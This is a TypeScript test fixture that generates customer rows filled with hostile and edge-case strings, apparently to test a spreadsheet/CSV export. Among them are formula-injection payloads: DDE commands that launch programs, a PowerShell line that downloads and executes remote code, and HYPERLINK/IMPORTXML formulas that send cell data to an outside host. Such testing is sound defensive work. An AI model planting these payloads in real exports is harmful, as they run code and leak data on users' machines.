import { apiRow, type ApiRow } from '../../api-rows'

/** Texts that a spreadsheet runs, or that programs lose or change. */
export const hostileTexts: readonly string[] = [
  // OWASP, "CSV Injection", and the lists that grew from it.
  '=1+1',
  '=1+1";=1+1',
  "=cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
  '=HYPERLINK("https://example.com/?x="&A1,"Error: click here")',
  '=IMPORTXML(CONCAT("https://example.com/?v=",CONCATENATE(A2:E2)),"//a/a10")',
  '=WEBSERVICE("https://example.com")',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  "=10+20+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "+1+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '+1+1',
  '-2+3',
  '=',
  '-',
  '+',
  '@',
  '==',
  // After what spreadsheets skip.
  ' =1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u00a0=1+1',
  '\u0001=1+1',
  // In full width, as East Asian keyboards write.
  '＝1+1',
  '＋1+1',
  '－2+3',
  '＠SUM(1+1)',
  // Separators and quotes that could end a cell.
  '",=1+1,"',
  '";=1+1;"',
  '"\t=1+1\t"',
  '"\r\n=1+1',
  "'=1+1",
  '"=1+1"',
  '"',
  '""',
  'a"b""c',
  'a,b;c\td|e',
  'line 1\nline 2\r\nline 3\rline 4',
  // What looks like something else.
  '00123',
  '1E5',
  '1,5',
  '1.5',
  '1-2',
  '3/4',
  '2026-01-31',
  'TRUE',
  'NULL',
  '#REF!',
  '_x0041_',
  '_x005F_x0041_x0042_',
  '&lt;b&gt; <b>&amp;</b> ]]>',
  'https://example.com',
  'mailto:a@example.com',
  // Letters.
  'Əliyev Çingiz Şükürov Ğ İı',
  'Ёжиков Щукин',
  'مرحبا بالعالم',
  '\u202eright to left\u202c',
  '👨‍👩‍👧‍👦 🇦🇿 👍🏽',
  'e\u0301 and é',
  'a\u0001b\u000bc\u001fd\u007fe\u0085f',
  'a\ufffeb\uffffc',
  '  spaces  inside  and around  ',
  ' ',
]

export const hostilePhones: readonly string[] = [
  '+994505355757',
  '+994 50 535 57 57',
  '+994-50-535-57-57',
  '(050) 535-57-57',
  '0505355757',
  '00994505355757',
  '-0505355757',
  '+1+1',
  "+1+cmd|' /C calc'!A0",
  '=1+1',
  '@SUM(1+1)',
  '050.535.57.57',
  '+994 50 535 57 57 (evening)',
]

const cellLimit = 32_767

/** Customers that have these texts in every field that takes some, and amounts and dates at the ends of what there is. */
export function hostileRows(firstId: number): readonly ApiRow[] {
  const texts = hostileTexts.map((text) => ({
    name: text,
    email: text,
    address: text,
    description: text,
    code: text,
    source: text,
    reference_id: text,
    cid: text,
  }))
  const phones = hostilePhones.map((phone, at) => ({
    phone,
    phones: [phone, hostilePhones[(at + 1) % hostilePhones.length]],
  }))
  const amounts = [-5, -0.01, 0.1 + 0.2, 1e15, 123_456_789.01, -99_999.99].map((amount) => ({
    spent: amount,
    balance: amount,
    cashback_balance: amount,
    total_bonus: amount,
    discount: amount,
  }))
  const dates = [
    '1899-12-31',
    '1900-01-01',
    '1900-02-28',
    '1900-03-01',
    '1969-12-31',
    '2000-02-29',
    '9999-12-31',
  ].map((date_of_birth) => ({ date_of_birth }))
  const instants = [
    '1969-12-31T23:59:59.999Z',
    '1970-01-01T00:00:00Z',
    '2026-03-29T01:30:00Z',
    '2026-10-25T00:30:00Z',
  ].map((created_at) => ({ created_at, updated_at: created_at }))
  const others = [
    { description: 'x'.repeat(cellLimit), address: 'ə'.repeat(cellLimit + 10) },
    { status: 0, can_use_loyalty_system: 1, is_verified: false, gender: 2 },
    { name: null, status: null, gender: null, created_at: null },
    { phones: [], receipt_count: -3 },
  ]
  return [...texts, ...phones, ...amounts, ...dates, ...instants, ...others].map((fields, at) =>
    // Groups are named like some texts, too.
    apiRow(firstId + at, {
      ...fields,
      group_id: 900 + (at % 7),
      group: { id: 900 + (at % 7), name: hostileTexts[at % 7] },
    }),
  )
}
